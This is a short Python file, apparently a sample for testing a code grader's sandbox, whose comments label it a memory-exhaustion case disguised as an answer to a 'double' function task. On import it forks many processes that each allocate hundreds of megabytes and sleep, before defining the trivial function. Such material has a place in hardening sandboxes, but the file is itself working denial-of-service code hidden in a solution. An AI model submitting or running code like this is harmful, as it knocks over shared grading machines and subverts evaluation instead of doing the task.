# kind: exhaustion
# tries: take memory in many processes
# where: in place of the answer to double
# loses: double half
# says: memory

import os, time
for _ in range(10):
    if os.fork() == 0:
        x = [bytearray(os.urandom(1 << 20)) * 100 for _ in range(5)]
        time.sleep(60)
time.sleep(60)
def double(x):
    return 2 * x
